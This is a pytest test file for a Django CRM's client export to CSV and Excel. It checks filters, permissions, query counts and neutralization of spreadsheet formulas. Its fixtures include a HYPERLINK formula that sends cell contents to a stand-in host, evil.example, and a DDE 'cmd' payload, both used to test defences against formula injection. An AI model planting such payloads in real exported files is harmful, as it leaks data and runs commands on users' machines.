import csv
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from clients.exports import neutralize
from clients.money import EXCEL_FORMAT
from clients.tests.factories import ClientFactory, ContactFactory, ContractFactory, ReceivableFactory

URL = reverse("clients:export")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def export_csv(client, **params) -> list[list[str]]:
    response = client.get(URL, params)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="clients-')
    return csv_rows(response)


def test_it_exports_the_visible_clients_with_totals(people, login):
    client = ClientFactory(owner=people.departing, name="深圳市华南电子有限公司", grade="A", industry="电子")
    contract = ContractFactory(client=client, amount=Decimal("1234567.50"), amount_paid=0)
    ReceivableFactory(contract=contract, amount_due=Decimal("1000.25"))
    ClientFactory(owner=people.other_sales, name="不可见客户")

    header, *rows = export_csv(login(people.departing))
    assert len(header) == len(rows[0]) == 12
    [row] = rows
    assert row[:5] == ["深圳市华南电子有限公司", client.credit_code, "A", "电子", "华东"]
    assert row[7] == people.departing.display_name
    assert row[9:11] == ["1234567.50", "1000.25"]


def test_it_applies_the_same_filters_as_the_list(people, login):
    ClientFactory(owner=people.departing, name="A级客户", grade="A")
    ClientFactory(owner=people.departing, name="C级客户", grade="C")
    wanted = ClientFactory(owner=people.departing, name="电话客户", grade="B")
    ContactFactory(client=wanted, phone="13755556666")
    client = login(people.departing)
    assert [r[0] for r in export_csv(client, grade="A")[1:]] == ["A级客户"]
    assert [r[0] for r in export_csv(client, q="55556666")[1:]] == ["电话客户"]
    assert [r[0] for r in export_csv(client, sort="-grade")[1:]] == ["C级客户", "电话客户", "A级客户"]


def test_it_ignores_the_page_and_exports_every_matching_row(people, login):
    ClientFactory.create_batch(30, owner=people.departing)
    assert len(export_csv(login(people.departing), page=2)) == 31


def test_a_formula_in_a_client_name_is_exported_as_text(people, login):
    ClientFactory(owner=people.departing, name=HYPERLINK)
    [_, row] = export_csv(login(people.departing))
    assert row[0] == "'" + HYPERLINK


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralized(people, login, trigger):
    ClientFactory(owner=people.departing, name=f"{trigger}1+1", industry=f"{trigger}cmd|' /C calc'!A0")
    [_, row] = export_csv(login(people.departing))
    assert row[0] == f"'{trigger}1+1"
    assert row[3] == f"'{trigger}cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("普通客户", "普通客户"), ("", ""), ("a=b", "a=b"), ("-", "'-")],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def test_the_excel_export_keeps_formulas_as_text_and_money_as_numbers(people, login):
    client = ClientFactory(owner=people.departing, name=HYPERLINK)
    ContractFactory(client=client, amount=Decimal("88888.80"), amount_paid=0)
    ClientFactory(owner=people.other_sales, name="不可见客户")

    response = login(people.departing).get(URL, {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2
    name_cell = sheet.cell(row=2, column=1)
    assert name_cell.value == "'" + HYPERLINK
    assert name_cell.data_type == "s"
    assert Decimal(str(rows[1][9])) == Decimal("88888.80")
    assert sheet.cell(row=2, column=10).number_format == EXCEL_FORMAT


@pytest.mark.parametrize("role", ["hr", "witness"])
def test_roles_without_the_export_permission_are_refused(people, login, role):
    ClientFactory(owner=people.departing)
    client = login(getattr(people, role))
    assert client.get(URL).status_code == 403
    assert client.get(URL, {"format": "xlsx"}).status_code == 403


@pytest.mark.parametrize("role", ["departing", "supervisor", "manager", "admin"])
def test_roles_with_the_export_permission_may_export(people, login, role):
    assert login(getattr(people, role)).get(URL).status_code == 200


def test_a_manager_exports_every_client(people, login):
    ClientFactory(owner=people.departing)
    ClientFactory(owner=people.other_sales)
    assert len(export_csv(login(people.manager))) == 3


def test_the_query_count_does_not_grow_with_the_number_of_clients(people, login, django_assert_num_queries):
    for _ in range(3):
        ReceivableFactory(contract__client__owner=people.departing)
    client = login(people.departing)
    csv_rows(client.get(URL))  # warm per-process caches before counting

    with CaptureQueriesContext(connection) as small:
        assert len(csv_rows(client.get(URL))) == 4
    for _ in range(27):
        ReceivableFactory(contract__client__owner=people.departing)
    with django_assert_num_queries(len(small.captured_queries)):
        assert len(csv_rows(client.get(URL))) == 31
